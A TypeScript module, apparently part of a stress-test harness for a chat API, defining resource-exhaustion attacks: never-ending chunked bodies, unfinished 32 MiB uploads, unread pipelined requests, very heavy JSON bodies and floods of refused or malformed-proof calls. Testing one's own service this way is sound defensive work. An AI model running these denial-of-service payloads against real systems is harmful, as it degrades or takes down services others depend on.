import {
  CHAT_PATH,
  firstAnswer,
  JSON_TYPE,
  lanes,
  linger,
  ONE_ADDRESS,
  openTls,
  requestOf,
  rest,
  someAddress,
  write,
} from './sockets.ts'
import { type Attack, oneOf, type Siege } from './target.ts'

const MIB = 1024 * 1024
const CHUNKS = '1\r\n \r\n'.repeat(4096)

/** A2: bodies in chunks of one byte, which never end; half of them at the route that anybody may ask. */
export const oneByte: Attack = (siege) =>
  lanes(siege, 24, 5_000, async (lane) => {
    const anybody = lane % 2 === 0
    const who = anybody ? {} : siege.target.rogue
    const socket = await openTls(siege, who, someAddress(siege.random))
    const path = anybody ? '/v1/admin/setup' : CHAT_PATH
    await write(
      socket,
      `POST ${path} HTTP/1.1\r\nhost: localhost\r\n${JSON_TYPE}\r\ntransfer-encoding: chunked\r\n\r\n`,
    )
    for (let sent = 0; sent < 64 && !siege.signal.aborted; sent += 1) {
      await write(socket, CHUNKS)
      await rest(100, siege.signal)
    }
    await linger(socket, 5_000)
  })

/** A4: bodies of 32 MiB, of which the last byte never comes, by an agent that may do nothing. */
export const unfinished: Attack = (siege) => {
  const piece = Buffer.alloc(MIB, ' ')
  return lanes(siege, 32, 10_000, async () => {
    const socket = await openTls(siege, siege.target.empty, ONE_ADDRESS)
    await write(
      socket,
      `POST ${CHAT_PATH} HTTP/1.1\r\nhost: localhost\r\n${JSON_TYPE}\r\ncontent-length: ${32 * MIB}\r\n\r\n`,
    )
    for (let sent = 0; sent < 31 && !siege.signal.aborted; sent += 1) {
      await write(socket, piece)
      // All lanes together send 64 MiB a second.
      await rest(500, siege.signal)
    }
    await linger(socket, 5_000)
  })
}

/** A4: many calls at once on one connection, whose answers of some MiB nobody reads. */
export const pipelined: Attack = (siege) =>
  lanes(siege, 4, 8_000, async () => {
    const socket = await openTls(siege, siege.target.rogue, ONE_ADDRESS)
    const call = requestOf('POST', CHAT_PATH, [JSON_TYPE], '{"model":"hostile-big","messages":[]}')
    socket.pause()
    await write(socket, call.repeat(95))
    await linger(socket, 6_000)
  })

/** A5: bodies that are legal and take long to read. */
export const heavyJson: Attack = (siege) => {
  const bodies = heavyBodies()
  return lanes(siege, 2, 600, async () => {
    const who = siege.random() < 0.5 ? siege.target.rogue : siege.target.empty
    const socket = await openTls(siege, who, ONE_ADDRESS)
    await write(socket, requestOf('POST', CHAT_PATH, [JSON_TYPE], oneOf(siege.random, bodies)))
    await firstAnswer(socket, 5_000)
    socket.destroy()
  })
}

const chatWith = (more: string): string => `{"model":"json-1","messages":[],"metadata":${more}}`

function heavyBodies(): readonly [string, ...string[]] {
  const names = Array.from({ length: 100_000 }, (_, i) => `"a name of some length ${i}":0`)
  return [
    chatWith(`[${'1,'.repeat(1_000_000)}1]`),
    chatWith(`{${names.join()}}`),
    chatWith(`[${'[],'.repeat(4_000_000)}[]]`),
    `${' '.repeat(16 * MIB)}${chatWith('0')}`,
    chatWith(`[${'{"a":1},'.repeat(50_000)}0]`),
    chatWith(JSON.stringify('\u0001'.repeat(MIB))),
  ]
}

/** D3: refused calls of an agent that may do nothing, each of which would be a row. */
export const denied: Attack = (siege) => refusals(siege, siege.target.empty, [])

/** Calls with proofs that are none. */
export const proofs: Attack = (siege) => {
  const head = Buffer.from('{"typ":"dpop+jwt","alg":"ES256","jwk":{"kty":"EC"}}').toString('base64url')
  return refusals(siege, siege.target.rogue, [`dpop: ${head}.${'A'.repeat(4_000)}.${'B'.repeat(86)}`])
}

async function refusals(
  siege: Siege,
  who: Siege['target']['rogue'],
  headers: readonly string[],
): Promise<void> {
  const call = requestOf('POST', CHAT_PATH, [JSON_TYPE, ...headers], '{"model":"json-1","messages":[]}')
  await lanes(siege, 4, 1_000, async () => {
    const socket = await openTls(siege, who, ONE_ADDRESS)
    for (let sent = 0; sent < 100 && !siege.signal.aborted; sent += 1) {
      const answered = firstAnswer(socket, 2_000)
      await write(socket, call)
      if ((await answered) === '') break
      await rest(8, siege.signal)
    }
    socket.destroy()
  })
}
